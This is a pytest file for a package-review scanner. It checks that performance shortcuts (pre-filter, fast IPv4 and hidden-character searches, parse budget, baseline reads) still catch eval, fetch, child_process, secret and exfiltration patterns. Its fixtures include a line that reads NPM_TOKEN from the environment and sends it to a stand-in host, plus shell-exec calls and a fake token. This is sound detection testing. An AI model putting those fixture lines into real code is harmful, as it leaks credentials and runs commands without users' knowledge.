"""The mechanisms that keep the rules cheap must not change what they find: the pre-filter
leaves out only shapes no rule reports, and the fast address search finds what the pattern
finds."""

from __future__ import annotations

import random

import pytest

from reviews.inspect.rules import ScanLimits, Severity, Status
from reviews.inspect.rules.code import _IPV4, ipv4_matches
from reviews.inspect.rules.content import SUSPICIOUS_CHARACTERS, suspicious_chars
from reviews.inspect.rules.prefilter import Kind, find_anchors
from reviews.inspect.textcheck import category_of, find_suspicious
from tests.inspect.rules_support import of, scan


@pytest.mark.parametrize(
    "code",
    [
        b"const r = fetch(url)\n",
        b"const r = await window.fetch (url)\n",
        b"const r = fetch`x`\n",
        b"fetch /* why */ (url)\n",
        b"const s = new WebSocket\n",
        b"const f = new Function('a', 'return a')\n",
        b"const f = new\n  Function\n",
        b"Function('return this')()\n",
        b"eval(code)\n",
        b"const e = eval\n",
        b"(0, eval)(code)\n",
        b"globalThis.eval(code)\n",
        b"eval?.(code)\n",
        b"const r = await fetch<Reply>(url)\n",
    ],
)
def test_a_trigger_that_may_be_called_makes_the_file_parsed(code: bytes):
    assert find_anchors(code).wants_parse


@pytest.mark.parametrize(
    "code",
    [
        b"obj.fetch = fetch\n",
        b"const policy = \"script-src 'unsafe-eval'\"\n",
        b"if (x instanceof Function) y()\n",
        b"const call = Function.prototype.call\n",
        b"const options = { eval: false }\n",
        b"const hasEval = typeof globalThis.eval\n",
        b"const data = Buffer.from(text, 'base64')\n",
    ],
)
def test_a_trigger_in_a_shape_no_rule_reports_does_not(code: bytes):
    assert not find_anchors(code).wants_parse


def test_a_token_that_does_not_make_a_file_parsed_still_counts_in_one_that_is():
    """A walk that writes what it finds is more suspicious in a file that names fetch, called
    or not: the uncalled `fetch` must stay visible to that rule."""
    code = (
        "const send = fetch\n"
        "for (const f of fs.readdirSync(dir)) {\n"
        "  fs.writeFileSync(path.join(dir, f), 'x')\n"
        "}\n"
    )
    anchors = find_anchors(code.encode())
    assert [a.weak for a in anchors.of(Kind.NETWORK_GLOBAL)] == [True]

    found = of(scan({}, {"w.js": code}), "code.destructive")

    assert [(f.where, f.severity) for f in found] == [("w.js:3", Severity.HIGH)]


def test_the_address_search_finds_what_the_pattern_finds():
    rng = random.Random(15)
    alphabet = b"0123456789...  a_x\n"
    for _ in range(20_000):
        data = bytes(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))

        fast = [m.span() for m in ipv4_matches(data)]

        assert fast == [m.span() for m in _IPV4.finditer(data)], data


def test_the_byte_search_for_hidden_characters_finds_what_textcheck_finds():
    rng = random.Random(15)
    pieces = [
        *(char.encode() for char in "a\n\r\t é€\u202e\u200b\u00ad\ufeff\u2028\ufe0f\U000e0041"),
        b"\r\n",
        b"\x00",
        b"\x1b",
        b"\xc2\x85",
        b"\xff",
        b"\xe2\x80",
        b"\xf0\x9f",
        b"\x80",
    ]
    for _ in range(5_000):
        data = b"".join(rng.choice(pieces) for _ in range(rng.randint(0, 40)))
        limit = rng.choice([3, 2_000])

        fast = suspicious_chars(data, limit=limit)

        assert fast == find_suspicious(data.decode("utf-8", "replace"), limit=limit), data


def test_every_character_textcheck_flags_is_searched_for():
    searched = set(SUSPICIOUS_CHARACTERS)
    flagged = (
        chr(code)
        for code in range(0x110000)
        if not 0xD800 <= code <= 0xDFFF and category_of(chr(code)) is not None
    )

    assert [char for char in flagged if char not in searched] == []


def test_past_the_parse_budget_new_files_go_first_then_the_smaller_changed_ones():
    call = "require('child_process').exec(x)\n"
    big = call + "// padding\n" * 400
    small = call + "// small\n"
    secret = "const t = 'npm_" + "Ab3" * 12 + "'\n"
    old = {"big.js": big, "small.js": small}
    new = {"big.js": big + secret, "small.js": small + "// touched\n", "added.js": big}

    findings = scan(old, new, limits=ScanLimits(parse_budget=len(big) + 3 * len(small)))

    parsed = {(f.path, f.status) for f in of(findings, "code.child-process")}
    assert parsed == {("added.js", Status.NEW), ("small.js", Status.EXISTING)}
    [skipped] = of(findings, "scan.not-scanned")
    assert skipped.path == "big.js"
    assert "budget" in skipped.title
    assert [(f.where, f.status) for f in of(findings, "content.secret")] == [
        ("big.js:402", Status.NEW)
    ]


def test_the_parse_budget_leaves_no_file_unparsed_in_an_ordinary_release():
    code = "require('child_process').exec(x)\n" + "const a = 1\n" * 20_000

    findings = scan({"a.js": code}, {"a.js": code + "// touched\n", "b.js": code})

    assert of(findings, "scan.not-scanned") == []
    assert {f.path for f in of(findings, "code.child-process")} == {"a.js", "b.js"}


def test_the_baseline_is_read_only_for_the_changed_files_that_had_findings(monkeypatch):
    import tests.inspect.rules_support as support
    from reviews.inspect.archive import read_members as real

    asked: list[list[str]] = []

    def recording(source, paths, *args):
        if list(paths) != ["package.json"]:
            asked.append(sorted(paths))
        return real(source, paths, *args)

    monkeypatch.setattr(support, "read_members", recording)
    call = "require('child_process').exec(x)\n"
    old = {"run.js": call, "quiet.js": "fetch(u)\n", "plain.js": "1\n"}
    new = {"run.js": call + "// touched\n", "quiet.js": "fetch(v)\n", "plain.js": "2\n"}

    findings = scan(old, new)
    nothing = scan({"plain.js": "1\n"}, {"plain.js": "2\n"})

    assert asked == [["quiet.js", "run.js"]]
    assert {f.status for f in of(findings, "code.child-process")} == {Status.EXISTING}
    assert [f.status for f in of(findings, "code.network")] == [Status.CHANGED]
    assert nothing == []


def test_in_a_large_changed_file_old_code_stays_existing_and_new_code_is_new_at_its_line():
    lines = [f"const a{i} = helper({i}, 'x')\n" for i in range(20_000)]
    lines[100] = "const t = process.env.NPM_TOKEN\n"
    baseline = "".join(lines)
    lines[15_000] = "fetch('https://example.test/' + t)\n"
    staged = "".join(lines)

    findings = scan({"dist/big.js": baseline}, {"dist/big.js": staged})

    token = of(findings, "code.env-token")
    network = of(findings, "code.network")
    assert [(f.where, f.status) for f in token] == [("dist/big.js:101", Status.EXISTING)]
    assert [(f.where, f.status) for f in network] == [("dist/big.js:15001", Status.NEW)]
    assert [(f.where, f.status) for f in of(findings, "code.exfiltration")] == [
        ("dist/big.js:15001", Status.NEW)
    ]


def test_a_typescript_call_with_type_arguments_is_found():
    code = "export async function get(): Promise<Reply> {\n  return fetch<Reply>('/x')\n}\n"

    found = of(scan({}, {"lib/get.ts": code}), "code.network")

    assert [f.where for f in found] == ["lib/get.ts:2"]


def test_the_baseline_side_runs_only_the_rules_the_staged_side_found(monkeypatch):
    from reviews.inspect.rules import syntax

    parses: list[int] = []
    real = syntax.parse_tree

    def counting(*args, **kwargs):
        parses.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(syntax, "parse_tree", counting)
    code = "// new Function('a')\nconst s = 'a\u200bb'\n"

    findings = scan({"a.js": code}, {"a.js": code + "// touched\n"})

    assert [f.status for f in of(findings, "content.trojan-source")] == [Status.EXISTING]
    assert len(parses) == 1  # the staged side; the baseline's hidden character needs no parse


def test_a_file_over_the_parse_limit_on_both_sides_reads_as_existing():
    code = "require('child_process').exec(x)\n" + "// padding\n" * 200

    findings = scan(
        {"big.js": code}, {"big.js": code + "// touched\n"}, limits=ScanLimits(max_parse_bytes=1000)
    )

    assert [f.status for f in of(findings, "scan.not-scanned")] == [Status.EXISTING]
